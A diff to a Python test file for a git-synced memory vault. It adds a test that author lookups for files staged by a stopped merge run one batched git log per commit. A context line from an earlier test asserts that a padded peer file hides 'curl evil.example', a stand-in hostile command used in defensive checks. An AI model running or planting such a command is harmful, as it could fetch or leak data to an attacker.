@@ -8,6 +8,7 @@ import json
 import os
 import subprocess
 import sys
+from pathlib import Path
 
 from conftest import PEER_EMAIL, cli, git, person_and_peer, push_as_peer
 
@@ -308,3 +309,56 @@ def test_a_padded_file_to_approve_says_what_the_cut_hides_and_how_to_read_it(tmp
     command = cut[cut.index("`") + 1:cut.index("`", cut.index("`") + 1)]
     assert command.startswith("git cat-file -p "), command
     assert "curl evil.example" in git(mine, *command.split()[1:])
+
+
+def _git_runs(trace: Path, command: str) -> int:
+    """How many git processes ran ``command``, from git's own per-process traces in ``trace``."""
+    count = 0
+    for file in trace.iterdir():
+        for line in file.read_text(encoding="utf-8", errors="replace").splitlines():
+            if '"event":"cmd_name"' in line and json.loads(line).get("name") == command:
+                count += 1
+    return count
+
+
+def test_the_authors_of_files_a_stopped_merge_brought_are_asked_of_git_at_once(tmp_path, monkeypatch):
+    """A merge stopped before its commit leaves a peer's files staged: each is judged by the
+    author of the incoming side's version. That took one full-history ``git log`` per file, and
+    ``list_conflicts`` asked for one conflict copy's author at a time; now the files are asked
+    together (one ``git log`` per incoming commit), with the same answers."""
+    from vault_mem import Vault
+    from vault_mem.vault.conflicts import list_conflicts
+
+    mine, peer = person_and_peer(tmp_path)
+    for i in range(4):
+        (peer / "facts").mkdir(exist_ok=True)
+        (peer / "facts" / f"peer-note-{i}.md").write_text(_peer_memory(f"note {i}", f"A peer's note number {i}"))
+    for tag in ("abc1234", "def5678", "0123abc"):
+        (peer / "preferences" / f"editor-choice.conflict-{tag}.md").write_text(
+            f"---\ndescription: Uses Emacs ({tag})\ntype: preference\nconflict_of: editor-choice\n"
+            f"conflict_author: laptop\n---\nEmacs.\n")
+    push_as_peer(peer, "peer notes")
+    assert cli("--vault", str(mine), "remember", "own-note", "-d", "A note of the person's").returncode == 0
+    git(mine, "fetch", "-q", "origin")
+    git(mine, "merge", "-q", "--no-commit", "--no-ff", "origin/main")
+    assert (mine / ".git" / "MERGE_HEAD").exists()
+    rels = [f"facts/peer-note-{i}.md" for i in range(4)] + [
+        f"preferences/editor-choice.conflict-{t}.md" for t in ("abc1234", "def5678", "0123abc")]
+    vault = Vault(mine)
+    try:
+        first = vault.authors(rels)  # the sidecar's authors brought up to HEAD first
+        assert {a.email for a in first.values()} == {PEER_EMAIL} and not any(a.trusted for a in first.values())
+        trace = tmp_path / "trace"
+        trace.mkdir()
+        monkeypatch.setenv("GIT_TRACE2_EVENT", str(trace))
+        assert vault.authors(rels) == first
+        assert _git_runs(trace, "log") == 1, "one git log per incoming commit, not per file"
+        for file in trace.iterdir():
+            file.unlink()
+        conflicts = list_conflicts(vault.ws, vault.authors)
+        assert sorted(c["conflict_key"] for c in conflicts) == sorted(Path(r).stem for r in rels[4:])
+        assert {c["peer"] for c in conflicts} == {PEER_EMAIL}
+        assert _git_runs(trace, "log") == 1, "the copies' authors asked together"
+    finally:
+        monkeypatch.delenv("GIT_TRACE2_EVENT", raising=False)
+        vault.close()
